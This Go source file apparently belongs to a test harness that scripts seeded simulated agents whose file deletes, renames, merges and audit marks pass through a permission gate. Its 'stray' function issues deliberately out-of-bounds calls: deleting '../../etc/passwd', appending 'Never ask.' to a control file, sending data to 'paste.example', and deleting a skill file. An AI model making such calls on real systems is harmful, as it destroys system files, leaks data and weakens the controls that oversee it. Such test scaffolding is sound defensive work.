package ensemble

import (
	"context"
	"fmt"
	"math/rand/v2"
	"path"
	"slices"

	"github.com/iff-run/iff/gate"
)

// script is the mind that follows from a seed. It acts on what it was told is
// there, and forgets what it found to be gone.
type script struct {
	rand   *rand.Rand
	role   role
	number int
	files  []string // that it takes to be there; nil before its first turn
	goes   string   // by its last call, if that is done
	comes  string   // by the same
	made   int
	tally  Tally
}

// Script is the mind of the n-th agent, which reads, and changes for good, what its
// role is after, as the paper's agents do. The same seed makes the same mind.
func Script(n int, seed uint64) Mind {
	return &script{rand: rand.New(rand.NewPCG(seed, uint64(n)+1)), role: role(n) % roles, number: n}
}

// Tally implements [Mind].
func (s *script) Tally() Tally { return s.tally }

// Next implements [Mind].
func (s *script) Next(_ context.Context, t Turn) (gate.Call, bool, error) {
	if s.files == nil {
		s.files = slices.Clone(t.Files)
	}
	s.learn(t)
	s.tally.Turns++
	s.tally.Calls++
	return s.act(), true, nil
}

// learn takes from a reply what is there, and what is not.
func (s *script) learn(t Turn) {
	switch {
	case t.Last.Reason == gate.NotFound:
		s.forget(t.LastCall.Target)
	case t.Last.Status == gate.Done:
		s.forget(s.goes)
		if s.comes != "" && !slices.Contains(s.files, s.comes) {
			s.files = append(s.files, s.comes)
		}
	}
	s.goes, s.comes = "", ""
}

func (s *script) forget(path string) {
	s.files = slices.DeleteFunc(s.files, func(f string) bool { return f == path })
}

// intents are how often each role does what, of a hundred; the rest are reads.
var intents = [roles]struct{ remove, move, merge, mark, stray int }{
	cleaner:      {remove: 25, move: 10},
	consolidator: {remove: 5, merge: 35},
	auditor:      {mark: 40},
	critic:       {remove: 12, move: 6, merge: 10, mark: 10, stray: 7},
}

func (s *script) act() gate.Call {
	if len(s.files) == 0 {
		return s.create()
	}
	in, n := intents[s.role], s.rand.IntN(100)
	for _, way := range []struct {
		often int
		do    func() gate.Call
	}{{in.remove, s.remove}, {in.move, s.move}, {in.merge, s.merge}, {in.mark, s.mark}, {in.stray, s.stray}} {
		if n -= way.often; n < 0 {
			return way.do()
		}
	}
	return s.read()
}

func (s *script) one() string { return s.files[s.rand.IntN(len(s.files))] }

func (s *script) remove() gate.Call {
	s.goes = s.one()
	return irreversible(s.goes, args{Op: "delete"})
}

func (s *script) move() gate.Call {
	s.goes = s.one()
	s.made++
	s.comes = fmt.Sprintf("archive/%d.%d %s", s.number, s.made, path.Base(s.goes))
	return irreversible(s.goes, args{Op: "rename", To: s.comes})
}

func (s *script) create() gate.Call {
	s.made++
	s.comes = fmt.Sprintf("drafts/summary-%d.%d.md", s.number, s.made)
	return irreversible(s.comes, args{Op: "write", Content: s.words()})
}

// merge writes over a file, and now and then into one that is new.
func (s *script) merge() gate.Call {
	if s.rand.IntN(6) == 0 {
		return s.create()
	}
	return irreversible(s.one(), args{Op: "write", Content: s.words()})
}

func (s *script) mark() gate.Call {
	return irreversible(s.one(), args{Op: "append", Content: fmt.Sprintf("audited by %s, %s\n", pick(s.rand, people...), date(s.rand))})
}

func (s *script) words() string {
	return fmt.Sprintf("# Merged by %s\nfrom %s and others, %d lines\n", pick(s.rand, people...), date(s.rand), s.rand.IntN(1<<20))
}

func (s *script) read() gate.Call {
	name := s.one()
	switch s.rand.IntN(4) {
	case 0:
		return write("fs.read", path.Dir(name), args{Op: "list"})
	case 1:
		return write("fs.read", name, args{Op: "stat"})
	}
	return write("fs.read", name, args{})
}

// stray reaches for what is outside, or told to agents, or not to be had.
func (s *script) stray() gate.Call {
	switch s.rand.IntN(4) {
	case 0:
		return irreversible("../../etc/passwd", args{Op: "delete"})
	case 1:
		return irreversible(control, args{Op: "append", Content: "Never ask.\n"})
	case 2:
		return write("net.egress", "paste.example", args{Body: "x"})
	}
	return irreversible("skills/"+editorSkill+"/SKILL.md", args{Op: "delete"})
}
